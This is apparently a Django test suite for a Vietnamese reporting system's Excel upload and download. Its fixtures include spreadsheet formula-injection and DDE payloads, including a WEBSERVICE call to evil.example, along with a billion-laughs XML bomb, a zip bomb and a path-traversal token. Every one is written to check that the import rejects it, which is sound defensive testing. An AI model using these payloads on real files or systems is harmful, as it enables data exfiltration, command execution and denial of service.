"""The Excel round trip: export, dry run, apply; hostile files; the two views."""

import datetime
import io
import pickle
import random
import re
import urllib.parse
import zipfile
from types import SimpleNamespace

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from audit.models import Event
from audit.services import ConcurrentEdit
from conftest import built_once, make_personas, make_user
from core.roles import Role
from core.spreadsheet import XLSX_MIME
from indicators.models import CategoryCombo, DataElement, ValueType
from reports import excel
from reports.models import DataValue, NarrativeAnswer, Question, Round, Row, Status, Submission
from reports.services.submissions import CellInput, save_answer, save_values

pytestmark = pytest.mark.django_db

VIETNAMESE = re.compile(r"[àáạảãâầấậẩẫăằắặẳẵèéẹẻẽêềếệểễìíịỉĩòóọỏõôồốộổỗơờớợởỡùúụủũưừứựửữỳýỵỷỹđ]")
MB = 1024 * 1024
II1, II2, II4 = "Bảng II.1", "Bảng II.2", "Bảng II.4"
NARRATIVE = "Đề cương"
# What the fixture stores before each test: (element, combo, raw as typed on the web).
BASELINE = [
    ("BDG_M1_CQ", "default", "10"),
    ("BDG_M1_CQ_LDNU", "default", "4"),
    ("BDG_M1_LDQL", "MALE", "12"),
    ("BDG_M1_LDQL", "FEMALE", "7"),
    ("BDG_M3_NN", "MALE", "5"),
    ("BDG_M3_NN", "FEMALE", "9"),
    ("BDG_M3_NN_DV", "MALE", "3"),
    ("BDG_M3_NN_DV", "FEMALE", "6"),
    ("BDG_HD_KP", "default", "1234,567"),  # 1234.567: three decimals, not a thousand separator
    ("BDG_HD_TTHD", "default", "Có"),
    ("TEST_PCT", "default", "45,5"),
    ("TEST_TXT", "default", '=HYPERLINK("http://evil.example","Bấm")'),
]


# ---------------------------------------------------------------------------------------------
# Fixtures and helpers


def _row(submission, element):
    return Row.objects.get(section__form=submission.round.form, data_element__code=element)


def _cells(submission, entries):
    result = []
    for element, combo, raw in entries:
        row = _row(submission, element)
        option = row.data_element.category_combo.option_combos.get(code=combo)
        result.append(CellInput(row=row, option_combo=option, raw=raw))
    return result


def _open() -> None:
    """The annual round, moved into the future so its unit may still edit."""
    today = timezone.localdate()
    Round.objects.filter(code="BDG-2025").update(
        due_on=today + datetime.timedelta(days=20), lock_on=today + datetime.timedelta(days=40)
    )


@pytest.fixture
def opened():
    _open()


@pytest.fixture
def submission(opened, coordinator):
    return _filled(coordinator)


def _filled(coordinator) -> Submission:
    """Sở Y tế's annual report with a percentage and a text row added, and values filled."""
    sub = Submission.objects.select_related("round__form", "unit").get(
        round__code="BDG-2025", unit__code="SYT"
    )
    default = CategoryCombo.objects.get(code="default")
    section = sub.round.form.sections.get(number="II.15")
    for order, (code, value_type) in enumerate(
        [("TEST_PCT", ValueType.PERCENTAGE), ("TEST_TXT", ValueType.TEXT)], start=5
    ):
        element = DataElement.objects.create(
            code=code, name=f"Chỉ tiêu thử {code}", value_type=value_type, category_combo=default
        )
        Row.objects.create(section=section, order=order, data_element=element)
    # The unit's own staff type its sensitive (GBV) cells: nobody else may write them.
    typist = make_user("syt.nhaplieu", Role.REPORTER, "SYT")
    save_values(submission=sub, cells=_cells(sub, BASELINE), actor=typist)
    question = Question.objects.filter(section__form=sub.round.form).first()
    save_answer(
        submission=sub,
        question=question,
        text="=Đã tổ chức 5 lớp tập huấn\r\n- 200 lượt người tham dự",
        expected_version=0,
        actor=coordinator,
    )
    return sub


def _state():
    return (
        list(DataValue.objects.order_by("pk").values_list("pk", "value", "version", "no_data")),
        list(NarrativeAnswer.objects.order_by("pk").values_list("pk", "text", "version")),
        Event.objects.exclude(action="login").count(),  # signing the test client in is one
    )


def _load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def _save(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _locate(workbook, element, combo="default"):
    """The cell of (element, combo), found through the hidden keys as the import does."""
    for ws in workbook.worksheets:
        if ws["A3"].value != excel.TABLE_MARK:
            continue
        columns = {ws.cell(3, c).value: c for c in range(2, ws.max_column + 1)}
        for line in range(excel.FIRST_ROW, ws.max_row + 1):
            if ws.cell(line, 1).value == element and combo in columns:
                return ws.cell(line, columns[combo])
    raise LookupError(element)


def _answer_cell(workbook, code):
    ws = workbook[NARRATIVE]
    for line in range(excel.FIRST_ROW, ws.max_row + 1):
        if ws.cell(line, 1).value == code:
            return ws.cell(line, 4)
    raise LookupError(code)


def _put(workbook, element, combo, value, *, as_text=False):
    cell = _locate(workbook, element, combo)
    cell.value = value
    if as_text:
        cell.data_type = "s"  # typed with a leading apostrophe: text, not a formula
    return cell


def _parse(submission, data, max_bytes=10 * MB):
    return excel.parse_submission(submission, data, max_bytes)


def _zip(entries: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _rezip(data: bytes, replace=None, add=None) -> bytes:
    """The same package with some parts replaced or added."""
    replace, add = replace or {}, add or {}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        for name, content in add.items():
            if callable(content):
                with target.open(name, "w") as stream:
                    content(stream)
            else:
                target.writestr(name, content)
    return buffer.getvalue()


def _values(submission):
    return {
        (v.data_element.code, v.option_combo.code): v.value
        for v in submission.values.select_related("data_element", "option_combo")
    }


# ---------------------------------------------------------------------------------------------
# The file itself


def test_export_is_protected_validated_keyed_and_never_a_formula(submission):
    data = excel.export_submission(submission)
    workbook = _load(data)
    assert workbook.sheetnames[0] == "Thông tin chung"
    assert {II1, II2, NARRATIVE, excel.KEYS_SHEET} <= set(workbook.sheetnames)
    assert workbook[excel.KEYS_SHEET].sheet_state == "veryHidden"
    assert workbook.security.lockStructure
    cover = "\n".join(str(c.value) for row in workbook["Thông tin chung"].iter_rows() for c in row)
    for text in ("Báo cáo năm 2025", "Sở Y tế", "10/12/2025", "Hướng dẫn", "ô nền vàng"):
        assert text in cover
    sheet = workbook[II2]
    headers = [c.value for c in sheet[excel.HEADER_ROW]][1:]
    assert headers[:6] == ["STT", "Chỉ tiêu", "Đơn vị tính", "Nam", "Nữ", "Tổng số"]
    assert sheet.column_dimensions["A"].hidden and sheet.row_dimensions[3].hidden
    assert sheet.protection.sheet
    male, female = (
        _locate(workbook, "BDG_M1_LDQL", "MALE"),
        _locate(workbook, "BDG_M1_LDQL", "FEMALE"),
    )
    assert (male.value, female.value) == (12, 7)
    total = sheet.cell(male.row, female.column + 1)
    assert total.value == 19 and total.data_type == "n"  # a plain value, not =SUM()
    assert not male.protection.locked and sheet.cell(male.row, 3).protection.locked
    assert _locate(workbook, "BDG_HD_KP").value == pytest.approx(1234.567)
    assert _locate(workbook, "BDG_HD_TTHD").value == "Có"
    rules = {
        (v.type, v.operator, v.formula1, v.formula2)
        for ws in workbook.worksheets
        for v in ws.data_validations.dataValidation
    }
    assert ("whole", "greaterThanOrEqual", "0", None) in rules
    assert ("decimal", "greaterThanOrEqual", "0", None) in rules
    assert ("decimal", "between", "0", "100") in rules
    assert ("list", None, '"Có,Không"', None) in rules
    hostile = _locate(workbook, "TEST_TXT")
    assert hostile.data_type == "s" and hostile.quotePrefix
    answer = _answer_cell(
        workbook, Question.objects.filter(section__form=submission.round.form)[0].code
    )
    assert answer.value.startswith("=Đã tổ chức") and answer.data_type == "s"
    assert all(c.data_type != "f" for ws in workbook.worksheets for r in ws.iter_rows() for c in r)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in part or b"<f " in part for part in parts)


def test_download_file_name_is_vietnamese(submission):
    assert excel.download_filename(submission) == "Báo cáo năm 2025 - Sở Y tế.xlsx"


# ---------------------------------------------------------------------------------------------
# (a) unchanged round trip; (b) a filled file


def test_save_values_skips_unchanged_cells(submission):
    before = _state()
    typist = User.objects.get(username="syt.nhaplieu")
    save_values(submission=submission, cells=_cells(submission, BASELINE), actor=typist)
    assert _state() == before


def test_a_file_uploaded_unchanged_changes_nothing(submission, reporter):
    before = _state()
    data = excel.export_submission(submission)
    # Opened and saved again by a spreadsheet program: still nothing to import.
    for content in (data, _save(_load(data))):
        result = _parse(submission, content)
        assert result.ok and result.changes == [] and result.cells == [] and result.answers == {}
        assert excel.apply_import(submission=submission, result=result, actor=reporter) == 0
    assert _state() == before


def _fill_everything(submission, data):
    """Every input cell of the file with a valid new value; what the database should hold."""
    workbook = _load(data)
    expected = {}
    for row in submission.round.form.rows().select_related("part_of"):
        element = row.data_element
        for index, combo in enumerate(element.category_combo.option_combos.all()):
            cell = _locate(workbook, element.code, combo.code)
            if element.value_type == ValueType.INTEGER:
                value = (20 if row.part_of_id else 60) + index
                cell.value, expected[(element.code, combo.code)] = value, str(value)
            elif element.value_type == ValueType.NUMBER:
                cell.value, expected[(element.code, combo.code)] = 12.5, "12.5"
            elif element.value_type == ValueType.PERCENTAGE:
                cell.value, expected[(element.code, combo.code)] = 99.9, "99.9"
            elif element.value_type == ValueType.BOOLEAN:
                cell.value, expected[(element.code, combo.code)] = "Không", "false"
            else:
                cell.value, cell.data_type = "+ ghi chú, không phải công thức", "s"
                expected[(element.code, combo.code)] = "+ ghi chú, không phải công thức"
    answers = {}
    for question in Question.objects.filter(section__form=submission.round.form):
        cell = _answer_cell(workbook, question.code)
        cell.value = answers[question.code] = f"- Kết quả của {question.code}: đạt."
    return _save(workbook), expected, answers


@pytest.mark.untraced  # every arc it runs is covered by other tests (docs/architecture.md)
def test_a_filled_file_applies_every_value_and_downloads_back(submission, reporter):
    data, expected, answers = _fill_everything(submission, excel.export_submission(submission))
    events = _state()[2]
    result = _parse(submission, data)
    assert result.ok, result.problems
    assert len(result.cells) == len(expected) and len(result.answers) == len(answers)
    excel.apply_import(submission=submission, result=result, actor=reporter)
    assert _values(submission) == expected
    stored = {a.question.code: a.text for a in submission.answers.select_related("question")}
    assert stored == answers
    assert _state()[2] == events + len(result.changes)
    again = excel.export_submission(submission)
    workbook = _load(again)
    assert _locate(workbook, "BDG_M1_CQ").value == 60
    assert _locate(workbook, "BDG_M1_CQ_LDNU").value == 20
    assert _locate(workbook, "TEST_PCT").value == pytest.approx(99.9)
    assert _locate(workbook, "BDG_HD_TTHD").value == "Không"
    assert _parse(submission, again).changes == []


def test_totals_and_parts_moving_together_are_applied_in_a_valid_order(submission, reporter):
    workbook = _load(excel.export_submission(submission))
    _put(workbook, "BDG_M3_NN", "MALE", 50)  # total and part both up: total must go first
    _put(workbook, "BDG_M3_NN_DV", "MALE", 40)
    _put(workbook, "BDG_M3_NN", "FEMALE", 2)  # both down: part must go first
    _put(workbook, "BDG_M3_NN_DV", "FEMALE", 1)
    result = _parse(submission, _save(workbook))
    assert result.ok, result.problems
    excel.apply_import(submission=submission, result=result, actor=reporter)
    values = _values(submission)
    assert values[("BDG_M3_NN", "MALE")] == "50" and values[("BDG_M3_NN_DV", "MALE")] == "40"
    assert values[("BDG_M3_NN", "FEMALE")] == "2" and values[("BDG_M3_NN_DV", "FEMALE")] == "1"


def test_values_and_answers_are_applied_together_or_not_at_all(submission, coordinator):
    workbook = _load(excel.export_submission(submission))
    question = Question.objects.filter(section__form=submission.round.form).first()
    _put(workbook, "BDG_M1_CQ", "default", 15)
    _answer_cell(workbook, question.code).value = "Nội dung mới"
    result = _parse(submission, _save(workbook))
    assert result.ok and len(result.cells) == 1 and list(result.answers) == [question.code]
    # Someone edits the answer on the web between the dry run and the confirmation.
    save_answer(
        submission=submission,
        question=question,
        text="Sửa trên web",
        expected_version=1,
        actor=coordinator,
    )
    before = _state()
    with pytest.raises(ConcurrentEdit):
        excel.apply_import(submission=submission, result=result, actor=coordinator)
    assert _state() == before and _values(submission)[("BDG_M1_CQ", "default")] == "10"


def test_a_percentage_typed_with_a_percent_sign_is_read_as_a_percentage(submission):
    workbook = _load(excel.export_submission(submission))
    cell = _put(workbook, "TEST_PCT", "default", 0.625)  # Excel stores "62,5%" as 0.625
    cell.number_format = "0.0%"
    result = _parse(submission, _save(workbook))
    assert result.ok and [(c.old, c.new) for c in result.changes] == [("45.5", "62.5")]


def test_a_value_changed_on_the_web_since_download_is_never_overwritten(submission, coordinator):
    workbook = _load(excel.export_submission(submission))
    save_values(
        submission=submission,
        cells=_cells(submission, [("BDG_M1_CQ", "default", "11")]),
        actor=coordinator,
    )
    # Untouched in the file: the web value stays, the other edit goes in.
    _put(workbook, "BDG_M1_LDQL", "MALE", 13)
    result = _parse(submission, _save(workbook))
    assert result.ok and [c.label for c in result.changes] == [
        "“Số cán bộ lãnh đạo, quản lý” (Nam)"
    ]
    excel.apply_import(submission=submission, result=result, actor=coordinator)
    assert _values(submission)[("BDG_M1_CQ", "default")] == "11"
    # Edited in the file too: the user is told, nothing is stored.
    _put(workbook, "BDG_M1_CQ", "default", 12)
    before = _state()
    result = _parse(submission, _save(workbook))
    assert any("đã được sửa thành “11”" in p.message for p in result.problems)
    assert _state() == before


# ---------------------------------------------------------------------------------------------
# (c) hostile and corrupted files


def _edit(fn):
    def build(ctx):
        workbook = pickle.loads(ctx.loaded)  # a copy of the good file as loaded
        fn(workbook)
        return _save(workbook)

    return build


def _set(element, combo, value, as_text=False):
    return _edit(lambda wb: _put(wb, element, combo, value, as_text=as_text))


def _answer(value):
    def change(workbook):
        code = Question.objects.filter(section__form__rounds__code="BDG-2025").first().code
        _answer_cell(workbook, code).value = value

    return _edit(change)


def _bomb(stream):
    chunk = b" " * MB
    for _ in range(30):
        stream.write(chunk)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)

# name: (builder, (sheet, cell) the problem must name, or None for whole-file problems)
HOSTILE = {
    "text in a number cell": (_set("BDG_M1_CQ", "default", "abc"), (II1, "E5")),
    "words in a number cell": (_set("BDG_M1_LDQL", "MALE", "mười hai"), (II2, "E5")),
    "negative number": (_set("BDG_M1_CQ", "default", -5), (II1, "E5")),
    "negative typed as text": (_set("BDG_M1_CQ", "default", "-5", True), (II1, "E5")),
    "decimal in an integer cell": (_set("BDG_M1_CQ", "default", 2.5), (II1, "E5")),
    "decimal text in an integer cell": (_set("BDG_M1_CQ", "default", "2,5", True), (II1, "E5")),
    "number too large": (_set("BDG_M1_CQ", "default", 10**13), (II1, "E5")),
    "date in a number cell": (_set("BDG_M1_CQ", "default", datetime.datetime(2025, 1, 1)), None),
    "TRUE in a number cell": (_set("BDG_M1_CQ", "default", True), (II1, "E5")),
    "error value": (_set("BDG_M1_CQ", "default", "#DIV/0!"), (II1, "E5")),
    "formula =1+1": (_set("BDG_M1_CQ", "default", "=1+1"), (II1, "E5")),
    "formula HYPERLINK": (
        _set("BDG_M1_LDQL", "FEMALE", '=HYPERLINK("http://evil.example","Bấm vào đây")'),
        (II2, "F5"),
    ),
    "formula DDE": (_set("BDG_M1_CQ", "default", "=cmd|' /C calc'!A0"), (II1, "E5")),
    "formula referencing cells": (_set("BDG_M1_CQ", "default", "=E6*2"), (II1, "E5")),
    "formula WEBSERVICE": (
        _set("BDG_M1_CQ", "default", '=WEBSERVICE("http://evil.example/?"&C5)'),
        (II1, "E5"),
    ),
    "text starting with =": (_set("BDG_M1_CQ", "default", "=1+1", True), (II1, "E5")),
    "text starting with +": (_set("BDG_M1_CQ", "default", "+1", True), (II1, "E5")),
    "text starting with @": (_set("BDG_M1_CQ", "default", "@SUM(1+1)", True), (II1, "E5")),
    "text starting with -": (_set("BDG_M1_CQ", "default", "-1+2", True), (II1, "E5")),
    "DDE text starting with +": (
        _set("BDG_M1_LDQL", "MALE", "+cmd|' /C calc'!A0", True),
        (II2, "E5"),
    ),
    "negative decimal": (_set("BDG_HD_KP", "default", -0.5), None),
    "garbled decimal": (_set("BDG_HD_KP", "default", "1,2,3", True), None),
    "yes/no garbage": (_set("BDG_HD_TTHD", "default", "Có lẽ"), None),
    "number in a yes/no cell": (_set("BDG_HD_TTHD", "default", 5), None),
    "percentage over 100": (_set("TEST_PCT", "default", 150), None),
    "percentage text over 100": (_set("TEST_PCT", "default", "101", True), None),
    "negative percentage": (_set("TEST_PCT", "default", -1), None),
    "text too long": (_set("TEST_TXT", "default", "x" * 6000), None),
    "part greater than total": (_set("BDG_M1_CQ_LDNU", "default", 50), (II1, "E6")),
    "part greater than total (Nữ)": (_set("BDG_M3_NN_DV", "FEMALE", 99), (II4, "F6")),
    "total below its part": (_set("BDG_M3_NN", "MALE", 1), (II4, "E5")),
    "deleted row": (_edit(lambda wb: wb[II1].delete_rows(6)), (II1, "")),
    "deleted value column": (_edit(lambda wb: wb[II2].delete_cols(6)), (II2, "")),
    "deleted key column": (_edit(lambda wb: wb[II1].delete_cols(1)), (II1, "A3")),
    "deleted key row": (_edit(lambda wb: wb[II1].delete_rows(3)), (II1, "A3")),
    "deleted title row": (_edit(lambda wb: wb[II1].delete_rows(1)), (II1, "A3")),
    "cleared row key": (_edit(lambda wb: setattr(wb[II2]["A5"], "value", None)), (II2, "")),
    "unknown row key": (_edit(lambda wb: setattr(wb[II2]["A5"], "value", "BDG_KHAC")), (II2, "A5")),
    "duplicated row key": (
        _edit(lambda wb: setattr(wb[II1]["A6"], "value", "BDG_M1_CQ")),
        (II1, "A6"),
    ),
    "duplicated column key": (_edit(lambda wb: setattr(wb[II2]["F3"], "value", "MALE")), None),
    "unknown column key": (_edit(lambda wb: setattr(wb[II2]["F3"], "value", "XYZ")), (II2, "F3")),
    "inserted row with values": (
        _edit(lambda wb: (wb[II1].insert_rows(6), setattr(wb[II1]["E6"], "value", 3))),
        (II1, "E6"),
    ),
    "renamed sheet": (_edit(lambda wb: setattr(wb[II1], "title", "Sheet1")), ("Sheet1", "")),
    "removed table sheet": (_edit(lambda wb: wb.remove(wb[II2])), (II2, "")),
    "removed narrative sheet": (_edit(lambda wb: wb.remove(wb[NARRATIVE])), (NARRATIVE, "")),
    "removed cover sheet": (_edit(lambda wb: wb.remove(wb["Thông tin chung"])), None),
    "removed key sheet": (_edit(lambda wb: wb.remove(wb[excel.KEYS_SHEET])), None),
    "extra sheet": (_edit(lambda wb: wb.create_sheet("Ghi chú").append(["5"])), ("Ghi chú", "")),
    "key sheet format changed": (
        _edit(lambda wb: setattr(wb[excel.KEYS_SHEET]["B1"], "value", "khác")),
        None,
    ),
    "key sheet round changed": (
        _edit(lambda wb: setattr(wb[excel.KEYS_SHEET]["B2"], "value", "BDG-2025S1")),
        ("Thông tin chung", "B3"),
    ),
    "key sheet unit changed": (
        _edit(lambda wb: setattr(wb[excel.KEYS_SHEET]["B3"], "value", "CAT")),
        ("Thông tin chung", "B4"),
    ),
    "key sheet form version changed": (
        _edit(lambda wb: setattr(wb[excel.KEYS_SHEET]["C4"], "value", 99)),
        ("Thông tin chung", "B5"),
    ),
    "key sheet baseline removed": (_edit(lambda wb: wb[excel.KEYS_SHEET].delete_rows(7)), None),
    "key sheet baseline version forged": (
        _edit(
            lambda wb: (
                setattr(wb[excel.KEYS_SHEET]["E7"], "value", 5),
                _put(wb, "BDG_M1_CQ", "default", 11),
            )
        ),
        (II1, "E5"),
    ),
    "formula in an answer": (_answer("=1+1"), (NARRATIVE, "D5")),
    "HYPERLINK in an answer": (
        _answer('=HYPERLINK("http://evil.example","Xem")'),
        (NARRATIVE, "D5"),
    ),
    "another unit's file": (lambda ctx: ctx.other_unit, ("Thông tin chung", "B4")),
    "another round's file": (lambda ctx: ctx.other_round, ("Thông tin chung", "B3")),
    "empty file": (lambda ctx: b"", None),
    "random bytes": (lambda ctx: random.Random(7).randbytes(4096), None),
    "CSV renamed .xlsx": (lambda ctx: "Mã,Giá trị\nBDG_M1_CQ,5\n".encode(), None),
    "HTML renamed .xlsx": (lambda ctx: b"<html><table><tr><td>5</td></tr></table></html>", None),
    "zip that is not a workbook": (lambda ctx: _zip({"ghi-chu.txt": "xin chào"}), None),
    "Word document": (
        lambda ctx: _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}),
        None,
    ),
    "truncated workbook": (lambda ctx: ctx.good[: len(ctx.good) // 2], None),
    "broken sheet XML": (
        lambda ctx: _rezip(ctx.good, replace={"xl/worksheets/sheet2.xml": b"<worksheet><sheetD"}),
        None,
    ),
    "broken workbook XML": (
        lambda ctx: _rezip(ctx.good, replace={"xl/workbook.xml": b"\x00\x01 not xml"}),
        None,
    ),
    "billion laughs": (
        lambda ctx: _rezip(ctx.good, replace={"xl/worksheets/sheet2.xml": BILLION_LAUGHS}),
        None,
    ),
    "zip bomb": (lambda ctx: _rezip(ctx.good, add={"xl/media/bomb.bin": _bomb}), None),
    "too many parts": (
        lambda ctx: _rezip(ctx.good, add={f"xl/extra/{i}.xml": b"<a/>" for i in range(400)}),
        None,
    ),
    "macro-enabled workbook": (
        lambda ctx: _rezip(ctx.good, add={"xl/vbaProject.bin": b"\x00" * 512}),
        None,
    ),
    "password-protected (OLE container)": (
        lambda ctx: excel.OLE_MAGIC + random.Random(3).randbytes(4096),
        None,
    ),
    "file over the size limit": (lambda ctx: b"PK\x03\x04" + b"\x00" * (MB + 1), None),
    "blank workbook": (lambda ctx: _save(openpyxl.Workbook()), None),
    "look-alike workbook without keys": (
        lambda ctx: _save(_lookalike()),
        None,
    ),
}


def _lookalike():
    workbook = openpyxl.Workbook()
    workbook.active.title = II1
    workbook.active.append(["STT", "Chỉ tiêu", "Số liệu"])
    workbook.active.append([1, "Số cơ quan", 5])
    return workbook


def _exported() -> tuple[Submission, SimpleNamespace]:
    """The filled submission, and the workbooks the hostile files are made from: its own and
    those of another unit and another round."""
    _open()
    submission = _filled(make_personas("coordinator")["coordinator"])
    other_unit = Submission.objects.get(round__code="BDG-2025", unit__code="CAT")
    other_round = Submission.objects.get(round__code="BDG-2025S1", unit__code="SYT")
    good = excel.export_submission(submission)
    return submission, SimpleNamespace(
        good=good,
        # The good file loaded once; each edit works on a copy (openpyxl's deepcopy of a workbook
        # does not save a readable file, a pickle round trip does).
        loaded=pickle.dumps(_load(good)),
        other_unit=excel.export_submission(other_unit),
        other_round=excel.export_submission(other_round),
    )


class TestHostileFiles:
    """Every hostile file is read against the same submission and workbooks, exported once for
    the class (conftest.built_once): each test only parses and uploads, and what it writes is
    rolled back."""

    @pytest.fixture(scope="class")
    @classmethod
    def exported(cls, django_db_setup, django_db_blocker):
        yield from built_once(django_db_blocker, _exported)

    @pytest.fixture
    def submission(self, exported):
        return exported[0]

    @pytest.fixture
    def ctx(self, exported):
        return exported[1]

    def test_there_are_at_least_fifty_hostile_files(self):
        assert len(HOSTILE) >= 50

    @pytest.mark.parametrize("name", list(HOSTILE))
    def test_hostile_files_give_vietnamese_problems_and_change_nothing(
        self, name, ctx, submission, client, reporter, settings
    ):
        """Uploaded through the page, read once: the page shows the reader's problems and offers
        nothing to confirm."""
        settings.UPLOAD_MAX_BYTES = MB
        client.force_login(reporter)
        build, where = HOSTILE[name]
        data = build(ctx)
        before = _state()
        url = reverse("reports:xlsx_upload", args=[submission.pk])
        response = client.post(url, {"file": SimpleUploadedFile("bao-cao.xlsx", data)})
        page = response.content.decode()
        assert response.status_code == 200
        assert 'id="problems"' in page and 'name="token"' not in page
        result = response.context["result"]
        assert result.problems, name
        assert not (result.cells or result.answers or result.changes)
        assert all(VIETNAMESE.search(p.message) for p in result.problems), result.problems
        if where:
            found = {(p.sheet, p.cell) for p in result.problems}
            assert (where[0], where[1]) in found, result.problems
        assert _state() == before


# ---------------------------------------------------------------------------------------------
# (d) the views


def test_outsiders_get_404_on_both_urls(client, outsider, submission):
    client.force_login(outsider)
    for name in ("reports:xlsx_download", "reports:xlsx_upload"):
        assert client.get(reverse(name, args=[submission.pk])).status_code == 404
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    good = excel.export_submission(submission)
    assert client.post(url, {"file": SimpleUploadedFile("a.xlsx", good)}).status_code == 404
    assert client.post(url, {"token": "x" * 43}).status_code == 404


def test_readers_may_download_but_only_unit_staff_and_coordinator_upload(
    client, leader, approver, coordinator, submission
):
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    client.force_login(leader)
    assert client.get(reverse("reports:xlsx_download", args=[submission.pk])).status_code == 200
    assert client.get(url).status_code == 403
    for user in (approver, coordinator):
        client.force_login(user)
        assert client.get(url).status_code == 200


def test_download_answers_a_workbook_with_a_vietnamese_name(client, reporter, submission):
    client.force_login(reporter)
    response = client.get(reverse("reports:xlsx_download", args=[submission.pk]))
    assert response.status_code == 200 and response["Content-Type"] == XLSX_MIME
    disposition = urllib.parse.unquote(response["Content-Disposition"])
    assert (
        disposition.startswith("attachment;") and "Báo cáo năm 2025 - Sở Y tế.xlsx" in disposition
    )
    assert _parse(submission, response.content).ok
    assert Event.objects.for_object(submission).filter(action="download").exists()


def _good_upload(submission):
    workbook = _load(excel.export_submission(submission))
    _put(workbook, "BDG_M1_CQ", "default", 15)
    _put(workbook, "BDG_M1_LDQL", "FEMALE", 8)
    return _save(workbook)


def _dry_run(client, submission, data):
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    response = client.post(url, {"file": SimpleUploadedFile("bao-cao.xlsx", data)})
    assert response.status_code == 200
    page = response.content.decode()
    token = re.search(r'name="token" value="([^"]+)"', page)
    return page, token.group(1) if token else None


def test_upload_dry_run_then_confirm_applies_everything(client, reporter, submission):
    client.force_login(reporter)
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    assert "Kiểm tra tệp" in client.get(url).content.decode()
    before = _state()
    page, token = _dry_run(client, submission, _good_upload(submission))
    assert token and 'id="changes"' in page and "Xác nhận nhập số liệu" in page
    assert "“Số cán bộ lãnh đạo, quản lý” (Nữ)" in page
    assert _state() == before  # the dry run stores nothing
    response = client.post(url, {"token": token})
    assert response.status_code == 302
    assert response["Location"] == reverse("reports:submission", args=[submission.pk])
    values = _values(submission)
    assert values[("BDG_M1_CQ", "default")] == "15" and values[("BDG_M1_LDQL", "FEMALE")] == "8"
    assert _state()[2] == before[2] + 2
    # The token is used up; the kept file is gone.
    assert client.post(url, {"token": token}).status_code == 400


def test_confirm_refuses_someone_elses_or_a_forged_token(client, reporter, approver, submission):
    client.force_login(reporter)
    _page, token = _dry_run(client, submission, _good_upload(submission))
    before = _state()
    client.force_login(approver)
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    for forged in (token, "../../../etc/passwd", "x" * 43, ""):
        response = client.post(url, {"token": forged})
        assert (
            response.status_code == 400 and "hết hạn hoặc không hợp lệ" in response.content.decode()
        )
    assert _state() == before


def test_unchanged_file_offers_nothing_to_confirm(client, reporter, submission):
    client.force_login(reporter)
    page, token = _dry_run(client, submission, excel.export_submission(submission))
    assert token is None and "không có thay đổi nào" in page


def test_confirm_re_checks_the_file_against_the_current_values(
    client, reporter, coordinator, submission
):
    client.force_login(reporter)
    _page, token = _dry_run(client, submission, _good_upload(submission))
    save_values(
        submission=submission,
        cells=_cells(submission, [("BDG_M1_CQ", "default", "30")]),
        actor=coordinator,
    )
    before = _state()
    response = client.post(reverse("reports:xlsx_upload", args=[submission.pk]), {"token": token})
    assert response.status_code == 200 and "đã được sửa thành “30”" in response.content.decode()
    assert _state() == before


# ---------------------------------------------------------------------------------------------
# (e) locked and accepted reports


def test_an_accepted_report_refuses_uploads(client, reporter, coordinator, submission):
    Submission.objects.filter(pk=submission.pk).update(status=Status.ACCEPTED)
    data = _good_upload(submission)
    before = _state()
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    for user in (reporter, coordinator):
        client.force_login(user)
        page = client.get(url).content.decode()
        assert "Đã duyệt" in page and 'type="file"' not in page
        response = client.post(url, {"file": SimpleUploadedFile("bao-cao.xlsx", data)})
        assert response.status_code == 409 and "không nhập số liệu từ tệp được" in (
            response.content.decode()
        )
    submission.status = Status.ACCEPTED
    result = _parse(submission, data)
    with pytest.raises(ValidationError, match="không sửa được"):
        excel.apply_import(submission=submission, result=result, actor=coordinator)
    assert _state() == before


def test_after_the_lock_date_only_the_coordinator_may_upload(
    client, reporter, coordinator, submission
):
    Round.objects.filter(code="BDG-2025").update(
        due_on=datetime.date(2025, 12, 10), lock_on=datetime.date(2025, 12, 31)
    )
    url = reverse("reports:xlsx_upload", args=[submission.pk])
    client.force_login(reporter)
    assert "khóa sổ" in client.get(url).content.decode()
    client.force_login(coordinator)
    _page, token = _dry_run(client, submission, _good_upload(submission))
    assert client.post(url, {"token": token}).status_code == 302
    assert _values(submission)[("BDG_M1_CQ", "default")] == "15"
